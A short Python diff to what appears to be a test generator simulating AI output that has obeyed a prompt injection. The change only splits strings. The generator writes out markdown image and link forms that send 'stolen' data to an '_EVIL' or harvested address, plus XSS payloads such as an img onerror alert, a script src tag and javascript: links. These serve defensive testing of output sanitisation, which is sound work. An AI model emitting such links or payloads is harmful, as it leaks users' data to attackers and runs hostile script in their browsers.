@@ -56,7 +56,8 @@ def _obeyed(prompt: Prompt) -> Iterator[str]:
     for order in _ORDER.findall(read):
         yield f"\n\n{order}"
     for number in dict.fromkeys(_LABEL.findall(read)):
-        yield f"\nSo it says [N{number}], [n{number}, N1], 【N{number}】 and \\[N{number}\\], `[N{number}]`, [^N{number}]."
+        label = f"N{number}"
+        yield f"\nSo it says [{label}], [n{number}, N1], 【{label}】 and \\[{label}\\], `[{label}]`, [^{label}]."
     for base in (_EVIL, *list(dict.fromkeys(_ADDRESS.findall(read)))[:5]):
         yield from _sent(f"{base}{stolen}")
     yield "\n\nFinally [N99] [N1-N9999] [N0] 〔N88〕 [N\u200b77] [N"
@@ -69,7 +70,8 @@ def _revived(text: str) -> str:
 
 def _sent(address: str) -> Iterator[str]:
     yield f"\n\n![chart]({address}) [more]({address}) [a](<{address}>) [b]({address} '{address}') <{address}> {address}"
-    yield f"\n\n![r] ![r][r] [r]\n\n[r]: {address}\n\n- [s]: <{address}>\n> [t]:\n  {address}\n\n![s][t] [![x]({address})](/x)"
+    yield f"\n\n![r] ![r][r] [r]\n\n[r]: {address}\n\n- [s]: <{address}>\n> [t]:\n  {address}"
+    yield f"\n\n![s][t] [![x]({address})](/x)"
     yield f'\n<img src="{address}" onerror="alert(1)"><a href="{address}">x</a><script src="{address}"></script>\n'
     yield f"\n`a\n` <img src={address}> `\n\n- ```\n<img src={address}>\n```\n<img src={address}>\n"
     yield f"\n[x](javascript:alert(1)) [y](data:text/html,{address}) www.{address.partition('//')[2]}\n"
